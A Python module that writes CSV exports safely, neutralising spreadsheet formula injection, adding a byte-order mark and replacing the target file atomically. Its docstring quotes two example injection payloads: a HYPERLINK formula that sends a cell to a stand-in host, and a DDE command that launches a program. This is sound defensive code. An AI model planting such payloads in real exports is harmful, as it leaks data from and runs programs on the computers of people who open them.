"""Write rows to a CSV file that Excel opens correctly and that can't run formulas.

CSV injection (OWASP, "CSV Injection"): a spreadsheet treats a cell that starts with `=`, `+`,
`-` or `@` as a formula, and tab or carriage return can hide such a start behind whitespace. A
guest who registers as `=HYPERLINK("https://evil.example/?"&A2, "Prize")` or
`+cmd|' /C calc'!A0` would otherwise leak other cells or launch programs on the organizer's
computer when the export is opened. OWASP's remedy is applied to every cell: prefix a single
quote, which spreadsheets read as "this is text" and do not evaluate. Quoting and escaping of
delimiters and quotes is left to the csv module. The cost is a visible `'` in front of
legitimate values such as "+49 30 1234567" or "-"; we accept it, because the file may be opened
by anyone and a phone number is still readable.

The file is UTF-8 with a byte-order mark (without it Excel assumes the ANSI code page and
garbles "Jürgen" or "张伟") and CRLF line ends, written to a temporary file next to the target
and renamed into place only when complete, so a failure or a cancel never leaves half a file.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import os
import secrets
from collections.abc import Callable, Iterable, Sequence, Sized
from datetime import date, datetime
from pathlib import Path

from app.domain.errors import ExportTargetError

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet evaluate a cell (OWASP list)."""

CHECK_EVERY = 1000


def neutralize(value: str) -> str:
    """The cell text a spreadsheet shows as is: a `'` before a formula trigger, no NUL.

    NUL is dropped because CSV readers (Excel, Python's csv before 3.13) stop at it; it is
    never visible text.
    """
    if "\x00" in value:
        value = value.replace("\x00", "")
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def cell_text(value: object) -> str:
    """How a Python value is written: None as empty, dates in ISO 8601, the rest as str()."""
    if value is None:
        return ""
    if isinstance(value, datetime | date):
        return value.isoformat()
    return str(value)


def write_csv(
    path: Path,
    header: Sequence[str],
    rows: Iterable[Sequence[object]],
    *,
    progress: Callable[[int, int], None] | None = None,
    cancelled: Callable[[], bool] | None = None,
) -> int:
    """Write `header` and `rows` to `path` safely; return the number of rows written.

    Raises:
        ExportTargetError: the target can't be written (folder missing, read-only, disk full,
            file open in another program); the target is left as it was.
        InterruptedError: `cancelled()` returned True; the target is left as it was.
    """
    total = len(rows) if isinstance(rows, Sized) else 0
    if path.is_dir():
        raise ExportTargetError(f"Can't write “{path}”: it is a folder.", str(path))
    temporary = path.with_name(f".{path.name}.{secrets.token_hex(4)}.tmp")
    written = 0
    try:
        # "x": never clobber a file of the same name; the temporary name is ours alone.
        with open(temporary, "x", encoding="utf-8-sig", newline="") as stream:
            writer = csv.writer(stream, lineterminator="\r\n")
            writer.writerow([neutralize(cell_text(h)) for h in header])
            for row in rows:
                writer.writerow([neutralize(cell_text(v)) for v in row])
                written += 1
                if written % CHECK_EVERY == 0:
                    if cancelled is not None and cancelled():
                        raise InterruptedError("The export was cancelled.")
                    if progress is not None:
                        progress(written, total)
            stream.flush()
            os.fsync(stream.fileno())
        os.replace(temporary, path)
    except InterruptedError:  # an OSError subclass, but it means "cancelled", not "can't write"
        _discard(temporary)
        raise
    except OSError as exc:
        _discard(temporary)
        raise ExportTargetError(f"Can't write “{path}”: {_why(exc)}.", str(exc)) from exc
    except BaseException:
        _discard(temporary)
        raise
    if progress is not None:
        progress(written, total or written)
    return written


def _discard(temporary: Path) -> None:
    with contextlib.suppress(OSError):
        temporary.unlink(missing_ok=True)


def _why(exc: OSError) -> str:
    if isinstance(exc, FileNotFoundError):
        return "the folder does not exist"
    if isinstance(exc, PermissionError):
        return "permission denied (is the file open in another program, or read-only?)"
    if exc.errno == errno.ENOSPC:
        return "the disk is full"
    if exc.errno == errno.EROFS:
        return "the disk is read-only"
    return exc.strerror or str(exc)
